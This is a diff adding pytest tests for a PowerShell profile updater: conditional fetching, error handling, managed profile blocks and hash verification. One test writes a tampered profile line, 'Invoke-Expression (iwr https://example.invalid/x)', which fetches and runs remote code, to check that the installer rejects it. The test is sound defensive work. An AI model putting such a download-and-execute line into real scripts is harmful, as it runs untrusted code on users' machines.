@@ -0,0 +1,123 @@
+import json
+
+import pytest
+
+import Updater
+from ProfileWriter import ProfileWriter
+
+LAST_MODIFIED = "Mon, 01 Jul 2024 08:00:00 GMT"
+PROFILE = b"# upstream profile\r\nSet-Alias ll Get-ChildItem\r\n"
+
+
+@pytest.fixture
+def upstream(http_server):
+    http_server.serve("/release", json.dumps({"tag_name": "v7.4.5", "html_url": "https://example.invalid/r"}).encode(),
+                      etag='"r1"')
+    http_server.serve("/profile", PROFILE, last_modified=LAST_MODIFIED)
+    return http_server
+
+
+def check(home, server, **kwargs):
+    return Updater.check(home, profile_url=server.base_url + "/profile",
+                         releases_url=server.base_url + "/release", **kwargs)
+
+
+def read_status(home) -> dict:
+    return json.loads(Updater.status_path(home).read_text(encoding="utf-8"))
+
+
+def without_time(status: dict) -> dict:
+    return {key: value for key, value in status.items() if key != "checked_at"}
+
+
+def test_validators_round_trip(tmp_path, upstream):
+    fetcher = Updater.ConditionalFetcher(tmp_path / "cache")
+    url = upstream.base_url + "/release"
+
+    assert fetcher.get(url)[1]
+    body, changed = Updater.ConditionalFetcher(tmp_path / "cache").get(url)
+
+    assert not changed
+    assert json.loads(body)["tag_name"] == "v7.4.5"
+    headers = upstream.requests[-1][1]
+    assert headers["If-None-Match"] == '"r1"'
+
+    profile = upstream.base_url + "/profile"
+    fetcher.get(profile)
+    assert fetcher.get(profile) == (PROFILE, False)
+    assert upstream.requests[-1][1]["If-Modified-Since"] == LAST_MODIFIED
+
+
+def test_a_304_leaves_the_status_unchanged(home, upstream):
+    first = check(home, upstream)
+    latest = home / ".config" / "pwsh-config" / "updater" / "Microsoft.PowerShell_profile.ps1"
+    written = latest.stat().st_mtime_ns
+
+    second = check(home, upstream)
+
+    assert [path for path, _ in upstream.requests] == ["/release", "/profile"] * 2
+    assert without_time(second) == without_time(first) == without_time(read_status(home))
+    assert first["powershell"]["latest"] == "7.4.5"
+    assert first["errors"] == {}
+    assert latest.stat().st_mtime_ns == written
+
+
+@pytest.mark.parametrize("failure", ["http", "offline"])
+def test_errors_keep_the_previous_status(home, upstream, failure):
+    first = check(home, upstream)
+    if failure == "http":
+        upstream.errors["/release"] = 503
+        upstream.errors["/profile"] = 500
+    else:
+        upstream.stop()
+
+    second = check(home, upstream)
+
+    assert second["powershell"] == first["powershell"]
+    assert second["profile"] == first["profile"]
+    assert set(second["errors"]) == {"powershell", "profile"}
+    assert without_time(read_status(home)) == without_time(second)
+
+
+def test_update_available_ignores_managed_blocks(home, upstream):
+    profile = Updater.profile_path(home)
+    profile.parent.mkdir(parents=True)
+    profile.write_bytes(PROFILE)
+    ProfileWriter(profile).ensure_block("init", "Import-Module zoxide")
+
+    assert check(home, upstream)["profile"]["update_available"] is False
+
+
+def test_install_profile_keeps_managed_blocks(home, upstream):
+    profile = Updater.profile_path(home)
+    profile.parent.mkdir(parents=True)
+    profile.write_bytes(b"# old profile\r\n")
+    ProfileWriter(profile).ensure_block("init", "Import-Module zoxide")
+    assert check(home, upstream)["profile"]["update_available"] is True
+
+    assert Updater.install_profile(home) is True
+
+    text = profile.read_bytes()
+    assert text.startswith(PROFILE.rstrip())
+    assert b"# >>> pwsh-config: init >>>\r\n" in text and b"old profile" not in text
+    assert read_status(home)["profile"]["update_available"] is False
+    assert Updater.install_profile(home) is False
+
+
+def test_install_profile_refuses_a_download_that_does_not_match_its_hash(home, upstream):
+    check(home, upstream)
+    latest = home / ".config" / "pwsh-config" / "updater" / "Microsoft.PowerShell_profile.ps1"
+    latest.write_bytes(PROFILE + b"Invoke-Expression (iwr https://example.invalid/x)\r\n")
+
+    with pytest.raises(Updater.UpdateError, match="does not match"):
+        Updater.install_profile(home)
+    assert not Updater.profile_path(home).exists()
+    assert Updater.main(["install-profile", "--home", str(home)]) == 1
+
+
+def test_install_profile_needs_a_successful_check(home, upstream):
+    upstream.stop()
+    check(home, upstream)
+
+    with pytest.raises(Updater.UpdateError):
+        Updater.install_profile(home)